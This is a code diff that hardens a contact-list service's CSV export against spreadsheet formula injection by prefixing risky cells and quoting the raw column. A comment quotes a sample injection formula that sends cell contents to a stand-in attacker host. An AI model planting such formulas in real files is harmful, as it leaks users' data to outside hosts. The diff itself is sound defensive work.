@@ -39,6 +39,16 @@ function decodeCursor(cursor: string): number {
   return Number(match[1]);
 }
 
+/**
+ * The `raw` cell of the invalid-lines CSV, safe to open in a spreadsheet (F24): a cell that
+ * starts with `=` `+` `-` `@`, a tab or a CR is a formula to Excel and LibreOffice
+ * (`=HYPERLINK("https://evil.example/?"&A1,"Fix")` from a CRM export), so it gets a leading
+ * `'`, which makes it text. Only `raw` is the uploader's text; `line` and `reason` are ours.
+ * An invalid `+…` number thus reads `'+…`: the export is for people, the stored line and the
+ * JSON `invalidSample` keep the text exactly as uploaded.
+ */
+const SPREADSHEET_SAFE_RAW = `CASE WHEN left(raw, 1) IN ('=', '+', '-', '@', chr(9), chr(13)) THEN '''' || raw ELSE raw END`;
+
 /** Passes bytes through until more than `max` went by, then fails. */
 function byteCap(max: number): Transform {
   let seen = 0;
@@ -96,7 +106,8 @@ export class ContactListsService {
   }
 
   /**
-   * Every invalid line as CSV (`line,raw,reason`). COPY pumps them into a spool file at disk
+   * Every invalid line as CSV (`line,raw,reason`; `raw` always quoted and made inert for
+   * spreadsheets, see SPREADSHEET_SAFE_RAW). COPY pumps them into a spool file at disk
    * speed and the connection goes back to the pool before the first byte is sent, so a client
    * that reads slowly, or not at all, holds a file descriptor, never a connection (F11). The
    * file is unlinked once open: it goes away with the stream, however the download ends.
@@ -114,7 +125,7 @@ export class ContactListsService {
         // COPY takes no parameters; the id is a uuid read back from the database, quoted anyway.
         const copy = client.query(
           copyTo(
-            `COPY (SELECT line, raw, reason FROM contact_invalid_line WHERE list_id = ${client.escapeLiteral(list.id)} ORDER BY line) TO STDOUT WITH (FORMAT csv, HEADER true)`,
+            `COPY (SELECT line, ${SPREADSHEET_SAFE_RAW} AS raw, reason FROM contact_invalid_line WHERE list_id = ${client.escapeLiteral(list.id)} ORDER BY line) TO STDOUT WITH (FORMAT csv, HEADER true, FORCE_QUOTE (raw))`,
           ),
         );
         await pipeline(copy, byteCap(this.maxSpoolBytes), createWriteStream(path, { flags: 'wx', mode: 0o600 }));
